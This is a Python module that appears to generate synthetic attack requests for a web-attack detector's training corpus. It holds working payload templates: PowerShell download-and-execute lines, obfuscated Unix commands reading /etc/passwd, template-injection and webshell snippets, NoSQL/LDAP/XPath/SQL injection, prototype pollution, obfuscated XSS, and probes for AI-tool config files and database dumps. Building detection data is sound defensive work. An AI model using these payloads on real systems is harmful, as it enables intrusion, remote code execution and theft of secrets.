"""Rarer families: Windows shells, split commands, interpolation, server-side script, queries of other stores, stray files."""

from __future__ import annotations

import random
from collections.abc import Callable

from weir_models.request_attack.corpus.placing import PATHS, Request, browser, referer, word

R = random.Random
SEPARATORS = (";", "|", "&", "&&", "||", "\n", "`", "$(")
SECRET_NAMES = ("user", "password", "token", "login", "email", "code")


def windows(r: R) -> str:
    """Control flow and expansion of batch files, cmdlets and aliases of PowerShell."""
    name, host = word(r), f"http://{word(r)}.com/{word(r)}"
    return r.choice(SEPARATORS) + r.choice((f"for /l %i in (1,1,{r.randint(2, 99)}) do {name}", f"for /f \"tokens=1\" %a in ('{name}') do echo %a",
        f"if exist c:\\{name} echo {name}", f"if %os%=={name} {name}", f"set {name}=dir&&%{name}%", f"%comspec% /c {name}", f"%path:~0,{r.randint(1, 9)}%",
        f"iex (iwr {host})", f"Invoke-Expression '{name}'", f"Get-ChildItem c:\\{name} -Recurse", "gci env:", f"gc {name}.txt|%{{$_}}",
        f"powershell -nop -w hidden -enc {name}aaaaaaaaaaaaaaaa", f"(New-Object Net.WebClient).DownloadString('{host}')", f"&('i'+'ex') {name}",
        f"[char]{r.randint(60, 120)}+[char]{r.randint(60, 120)}", "gps|select name", f"start /b {name}", "wmic process list", f"findstr /s {name} *"))  # fmt: skip


def split_command(r: R) -> str:
    """Braces, empty variables, variables that spell a command, encoders, rarer tools."""
    name, n = word(r), r.randint(1, 99)
    return r.choice(SEPARATORS) + r.choice(("{cat,/etc/passwd}", "{ls,-la,/}", "wh$@oami", f"c${{{name}}}at /etc/passwd", "ca$()t /etc/hosts", "i$*d",
        f"a=c;b=at;$a$b /{name}", "x=whoami;$x", "${PATH:0:1}bin${PATH:0:1}id", "$(printf '\\x69\\x64')", "echo aWQ=|base64 -d|sh", "rev<<<'di'|sh",
        f"socat tcp:{name}.com:{n} -", "xxd -r -p <<< 6964 | sh", f"awk 'BEGIN{{system(\"{name}\")}}'", f"find / -name {name}", f"dd if=/{name} of=/tmp/x",
        f"openssl s_client -connect {name}.com:{n}", "$0<<<id", f"xargs {name} < /etc/{name}", "$'\\151\\144'"))  # fmt: skip


def interpolation(r: R) -> str:
    """Interpolation of scripting languages and template engines."""
    a, b, name = r.randint(2, 999), r.randint(2, 999), word(r)
    return r.choice(("", name)) + r.choice((f"#{{`{name}`}}", f"#{{system('{name}')}}", f"<%= IO.popen('{name}').read %>", f"@{{[system('{name}')]}}",
        f"${{\\system('{name}')}}", f"{{{a}*{b}}}", f"[% {a}*{b} %]", f"{{{{['{name}']|map('system')}}}}", "{%print(config)%}", f"{{{{={a}*{b}}}}}",
        f"${{{a}+{b}}}", f"<%- global.process.mainModule.require('{name}') %>", "${sessionScope.user}", f"{{{{\"{name}\".execute()}}}}"))  # fmt: skip


def server_script(r: R) -> str:
    """Code for JavaScript on the server, and PHP in forms that simple patterns miss."""
    name, n = word(r), r.randint(2, 999)
    return r.choice((f"process.exit({n})", f"require('child_process').exec('{name}')", "while(1){}", "';for(;;);'", f"res.end('{name}')",
        f"global.process.mainModule.require('fs').readFileSync('{name}')", f"<?$_GET[0]('{name}')?>", f"system/*{name}*/('{name}')", f"\\passthru('{name}')",
        f"$f='system';$f('{name}');", f"('sys'.'tem')('{name}')", "phpinfo ();", f"<script language=php>{name}()</script>", f"echo `{name}`;",
        f"php://filter/convert.iconv.UTF8.UTF7/resource={name}", f"zip://{name}.zip%23{name}"))  # fmt: skip


def pollution(r: R) -> Request:
    """Prototypes and operators in the names of parameters."""
    name, value = word(r), r.choice((word(r), "1", "true", ""))
    query = r.choice((f"__proto__[{name}]={value}", f"constructor[prototype][{name}]={value}", f"{name}[__proto__][{name}]={value}",
        f"__proto__.{name}={value}", f"{r.choice(SECRET_NAMES)}[$ne]={value}", f"{r.choice(SECRET_NAMES)}[$regex]=.*", f"{r.choice(SECRET_NAMES)}[$gt]="))  # fmt: skip
    return Request("GET", r.choice(PATHS), query, browser(r), referer(r))


def other_query(r: R) -> str:
    """JSON operators of SQL, half-open comparisons, document stores, directories, XPath, introspection of GraphQL."""
    name, n = word(r), r.randint(1, 999)
    return r.choice((f"{n}' or '{{\"a\":{n}}}'::jsonb @> '{{\"a\":{n}}}'--", f"{n} or json_length('{{}}')<{n}", f"{name}'='", f"{n} or true", f"{n} xor 0",
        f"{name}' or 1>", f"{n} union table {name}", "version()", "(select @@version)", f"{n} or {name} is not null", '{"password":{"$gt":""}}',
        f'{{"$where":"this.{name}=={n}"}}', f"*)(|({name}=*", f"{name})(&)", f"*\\29\\28{name}=*", f"' or count(//{name})>0 or '", f"'] | //{name}",
        f"' or substring(//{name}[1],1,1)='a", "{__schema{types{name}}}", f"{{__type(name:\"{name}\"){{name}}}}"))  # fmt: skip


def split_script(r: R) -> str:
    """Script without letters, by brackets, in pieces, and handlers split by junk."""
    name, n = word(r), r.randint(1, 99)
    return r.choice((f"top['al'+'ert']({n})", f"self[/al/.source+/ert/.source]({n})", f"window['\\x61lert']({n})", "(![]+[])[+[]]+(![]+[])[+!+[]]",
        f"this['ale'.concat('rt')]({n})", f"<img src=x on<x>error={name}>", f"<img src=x on/**/error={name}>", f"<svg on\x0bload\x0b={name}>",
        f"<svg o\u200bnl\u200boad=al\u200bert({n})>", "$=~[];$={___:++$}", f"\\141\\154\\145\\162\\164({n})"))  # fmt: skip


def stray(r: R) -> Request:
    """Folders of tools and assistants, logs and dumps."""
    tool = r.choice(
        ("claude", "cursor", "aider", "codex", "gemini", "terraform", "vercel", "ansible", "azure", "gradle", word(r))
    )
    year = r.randint(2015, 2026)
    path = r.choice((f"/.{tool}/settings.json", f"/.{tool}/config", f"/.{tool}/cache/state.json", "/storage/logs/laravel.log", f"/{word(r)}/debug.log",
        f"/logs/error-{year}-01-02.log", "/npm-debug.log", f"/db_backup_{year}.sql.gz", "/dump.rdb", f"/dump_{year}.7z", f"/{word(r)}.hprof", "/nohup.out",
        f"/{word(r)}.sql.bz2", "/mysqldump.sql", "/access.log.1"))  # fmt: skip
    return Request("GET", r.choice(("", "", f"/{word(r)}", "/app")) + path, None, browser(r), None)


FAMILIES: tuple[tuple[str, str, str, float, Callable[[R], str | Request]], ...] = (
    ("command_injection", "windows", "fit", 1.0, windows), ("command_injection", "split_command", "fit", 1.0, split_command), ("template_injection", "interpolation", "fit", 0.8, interpolation), ("php_and_webshell", "server_script", "fit", 0.8, server_script), ("xss", "pollution", "calibrate", 0.4, pollution), ("sqli", "other_query", "fit", 1.0, other_query), ("xss", "split_script", "fit", 0.8, split_script), ("scanner_probe", "stray", "fit", 0.8, stray),
)  # fmt: skip
